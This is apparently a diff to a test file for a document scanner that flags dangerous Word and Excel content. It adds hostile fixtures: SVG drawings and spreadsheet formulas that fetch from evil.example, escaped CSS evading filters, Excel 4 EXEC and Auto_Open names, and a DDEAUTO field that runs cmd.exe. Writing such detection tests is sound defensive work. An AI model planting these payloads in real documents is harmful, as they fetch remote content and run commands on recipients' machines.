@@ -90,11 +90,22 @@ def linked(link: str, *related: Related) -> bytes:
     )
 
 
+def drawn(svg: str) -> bytes:
+    """A Word file with this drawing."""
+    return with_part("word/media/a.svg", svg, "image/svg+xml")
+
+
+def named(name: str, says: str) -> bytes:
+    """A workbook with a name that says something."""
+    return xlsx(book=f'<definedNames><definedName name="{name}">{says}</definedName></definedNames>')
+
+
 def typed(name: str, content: bytes, kinds: Mapping[str, str]) -> bytes:
     """A Word file with a part of an ending that has a type."""
     return docx(parts={name: content}, types=kinds)
 
 
+SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"'
 ELSEWHERE, FIELD, EMBEDDED, MACRO = "từ nơi khác", "có trường", "đối tượng nhúng", "có macro"
 FORMULA, WORKBOOK, LINK, OTHER = "có công thức", "lấy số từ tệp khác", "có đường dẫn", "không phải PDF"
 HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
@@ -156,7 +167,59 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: with_part("word/media/a.svg", '<svg><image href="http://evil.example/x"/></svg>', "image/svg+xml"),
         ELSEWHERE,
     ),
-    "drawing that runs": (lambda: with_part("word/media/a.svg", "<svg><script/></svg>", "image/svg+xml"), MACRO),
+    "drawing that runs": (lambda: drawn("<svg><script/></svg>"), MACRO),
+    "drawing that runs when it is pressed": (
+        lambda: drawn(f'<svg {SVG}><a x:href="javascript:alert(1)"/></svg>'),
+        ELSEWHERE,
+    ),
+    "drawing with styles of a page": (
+        lambda: drawn(f"<svg {SVG}><style>@import url(http://evil.example/a.css);</style></svg>"),
+        ELSEWHERE,
+    ),
+    "drawing with styles of a page, quoted": (
+        lambda: drawn(f"<svg {SVG}><style>p{{}} @IMPORT 'http://evil.example/a.css';</style></svg>"),
+        ELSEWHERE,
+    ),
+    "drawing with styles of a page, escaped": (
+        lambda: drawn(rf"<svg {SVG}><style>@\69mport 'http://evil.example/a.css';</style></svg>"),
+        ELSEWHERE,
+    ),
+    "drawing with styles before it": (
+        lambda: drawn(f'<?xml-stylesheet href="http://evil.example/a.css"?><svg {SVG}/>'),
+        ELSEWHERE,
+    ),
+    "drawing with a font of a page": (
+        lambda: drawn(f"<svg {SVG}><style>@font-face{{src:url('http://evil.example/a.woff')}}</style></svg>"),
+        ELSEWHERE,
+    ),
+    "drawing with a picture of a page by its style": (
+        lambda: drawn(f"<svg {SVG}><path style=\"fill:URL( 'http://evil.example/x#a' )\"/></svg>"),
+        ELSEWHERE,
+    ),
+    "drawing with a picture of a share by its style": (
+        lambda: drawn(f'<svg {SVG}><path style="cursor:image-set(&quot;//evil.example/x&quot; 1x)"/></svg>'),
+        ELSEWHERE,
+    ),
+    "drawing filled by a page": (
+        lambda: drawn(f'<svg {SVG}><path fill="url(http://evil.example/x#a)"/></svg>'),
+        ELSEWHERE,
+    ),
+    "drawing filled by a page, escaped": (
+        lambda: drawn(rf'<svg {SVG}><path fill="u\72l(http://evil.example/x#a)"/></svg>'),
+        ELSEWHERE,
+    ),
+    "drawing whose places are a page's": (
+        lambda: drawn(f'<svg {SVG} xml:base="http://evil.example/x"><use x:href="#a"/></svg>'),
+        ELSEWHERE,
+    ),
+    "drawing that moves to a page": (
+        lambda: drawn(f'<svg {SVG}><image><set attributeName="href" to="http://evil.example/x"/></image></svg>'),
+        "có phần gọi tệp khác",
+    ),
+    "drawing within a drawing": (
+        lambda: drawn(f'<svg {SVG}><image x:href="data:image/svg+xml,&lt;svg/&gt;"/></svg>'),
+        ELSEWHERE,
+    ),
     # fields
     "DDEAUTO": (lambda: docx(field(r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ')), FIELD),
     "DDE": (lambda: docx(field("dde excel a b")), FIELD),
@@ -258,6 +321,10 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
         lambda: typed("word/fonts/a.odttf", PROGRAM, {"odttf": f"{TYPE}.obfuscatedFont"}),
         "không rõ là gì",
     ),
+    "part of a type that nobody knows": (
+        lambda: with_part("word/a.xml", "<a/>", "application/vnd.evil.loader+xml"),
+        "không rõ là gì",
+    ),
     "part of no type": (lambda: with_part("word/media/notes.dat", b"x"), "không rõ là gì"),
     # other files and their objects
     "OLE object": (
@@ -306,8 +373,43 @@ HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
     ),
     "function that fetches": (lambda: xlsx(formula('_xlfn.WEBSERVICE("http://evil.example/"&A2)')), FORMULA),
     "picture by a function": (lambda: xlsx(formula('_xlfn.IMAGE("http://evil.example/x.png")')), FORMULA),
-    "workbook of a page in a formula": (lambda: xlsx(formula("'http://evil.example/[a.xlsx]S'!A1")), FORMULA),
-    "workbook of a share in a formula": (lambda: xlsx(formula(r"'\\evil.example\[a.xlsx]S'!A1")), FORMULA),
+    "text of a page": (lambda: xlsx(formula('_xlfn.IMPORTTEXT("http://evil.example/a.txt")')), FORMULA),
+    "table of a page": (lambda: xlsx(formula('SUM(_xlfn.IMPORTCSV ("http://evil.example/a.csv"))')), FORMULA),
+    "prices of an exchange": (lambda: xlsx(formula('_xlfn.STOCKHISTORY("MSFT",TODAY())')), FORMULA),
+    "program of Python": (lambda: xlsx(formula("_xlfn._xlws.PY(0,1)")), FORMULA),
+    "words for another's machine": (lambda: xlsx(formula('_xlfn.TRANSLATE(A1,"en","vi")')), FORMULA),
+    "function of an add-in": (lambda: xlsx(formula('_xll.LOAD("x")')), FORMULA),
+    "function that nobody knows": (lambda: xlsx(formula("IF(A1>1,KHAC(A2),0)")), FORMULA),
+    "function of Excel 4 in a name": (lambda: named("a", r"FILES(&quot;\\evil.example\share\*&quot;)"), FORMULA),
+    "function of Excel 4 in a name, in small letters": (lambda: named("a", "run(&quot;x&quot;)"), FORMULA),
+    "function of Excel 4 in a rule": (
+        lambda: xlsx(
+            after="<conditionalFormatting><cfRule><formula>GET.WORKSPACE(1)</formula></cfRule></conditionalFormatting>"
+        ),
+        FORMULA,
+    ),
+    "function of Excel 4 in a scale of colours": (
+        lambda: xlsx(
+            after='<cfRule><colorScale><cfvo type="formula" val="EXEC(&quot;calc&quot;)"/></colorScale></cfRule>'
+        ),
+        FORMULA,
+    ),
+    "name that runs when the workbook opens": (lambda: named("_xlnm.Auto_Open", "Sheet1!$A$1"), FORMULA),
+    "name that runs when the workbook closes": (lambda: named("Auto_Close_2", "Sheet1!$A$1"), FORMULA),
+    "workbook of a share by slashes in a formula": (lambda: xlsx(formula("'//evil.example/s/[b.xlsx]S'!A1")), WORKBOOK),
+    "name of a share by slashes in a formula": (lambda: xlsx(formula("'//evil.example/s/b''x.xlsx'!Gia")), FORMULA),
+    "workbook of a share by slashes in a name": (lambda: named("a", "'//evil.example/s/[b.xlsx]S'!$A$1"), WORKBOOK),
+    "workbook of a share in a chart": (
+        lambda: xlsx(
+            parts={"xl/charts/chart1.xml": "<a><f>'//evil.example/s/[b.xlsx]S'!$A$1</f></a>"},
+            types={"/xl/charts/chart1.xml": f"{TYPE}.drawingml.chart+xml"},
+        ),
+        WORKBOOK,
+    ),
+    "another workbook in a formula": (lambda: xlsx(formula("SUM([b.xlsx]S!A1:A9)")), WORKBOOK),
+    "name of another workbook in a formula": (lambda: xlsx(formula("[1]!Gia")), WORKBOOK),
+    "workbook of a page in a formula": (lambda: xlsx(formula("'http://evil.example/[a.xlsx]S'!A1")), WORKBOOK),
+    "workbook of a share in a formula": (lambda: xlsx(formula(r"'\\evil.example\[a.xlsx]S'!A1")), WORKBOOK),
     "DDE link": (lambda: linked(DDE_LINK), WORKBOOK),
     "link to another workbook": (
         lambda: linked(
